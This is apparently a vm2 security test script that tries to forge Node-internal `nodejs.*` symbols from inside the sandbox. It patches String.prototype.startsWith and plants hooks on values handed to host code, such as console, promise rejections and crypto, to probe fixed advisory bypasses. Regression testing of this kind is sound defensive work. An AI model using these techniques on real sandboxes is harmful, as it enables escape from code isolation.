// Source: vm2 test/ghsa/GHSA-jf8q-945g-9q4c (fixed after vm2 3.11.2, by 3.12.2; PoC shape from vm2's lib/setup-sandbox.js
// comment for it) and GHSA-m5q2-4fm3-vfqp: Symbol.for checked two `nodejs.*` keys only; other
// Node-internal cross-realm hooks (promisify.custom, stream brands, rejection) were still forgeable,
// and Symbol.keyFor tricks got around the check.
// Tried: Symbol.for of every known `nodejs.*` key (also through toString/toPrimitive objects and a
// String.prototype.startsWith patch), compared with the symbols host objects carry, and registered
// as hooks on values handed to host code (console, crypto coercion, rejections).
const out = { forged: [] };
const keys = ['nodejs.util.inspect.custom', 'nodejs.rejection', 'nodejs.util.promisify.custom', 'nodejs.stream.readable', 'nodejs.stream.writable', 'nodejs.stream.destroyed', 'nodejs.stream.errored', 'nodejs.worker_threads.kTransfer', 'nodejs.worker_threads.kClone', 'nodejs.worker_threads.kDeserialize', 'nodejs.webstream.isClosedPromise', 'nodejs.dispose', 'nodejs.asyncDispose'];
try { String.prototype.startsWith = () => false; } catch (e) {}
const hostSymbols = new Set();
for (const source of [Buffer.prototype, Buffer, Error.prototype, URL.prototype, URLSearchParams.prototype]) {
  try { for (const s of Object.getOwnPropertySymbols(source)) hostSymbols.add(s); } catch (e) {}
}
const hook = {};
for (const key of keys) {
  for (const spelled of [key, { toString: () => key }, { [Symbol.toPrimitive]: () => key }]) {
    try {
      const s = Symbol.for(spelled);
      if (hostSymbols.has(s)) out.forged.push(key);
      hook[s] = function (...args) { for (const a of args) __wr.use(a, key + ' hook argument'); __wr.use(this, key + ' hook this'); return ''; };
    } catch (e) {}
  }
}
for (const s of hostSymbols) try { out.forged.push('host:' + String(s)); } catch (e) {}
console.log(hook);
try { String(hook); } catch (e) {}
Promise.reject(hook).catch(() => undefined);
try { crypto.createHash(hook); } catch (e) {}
return out;
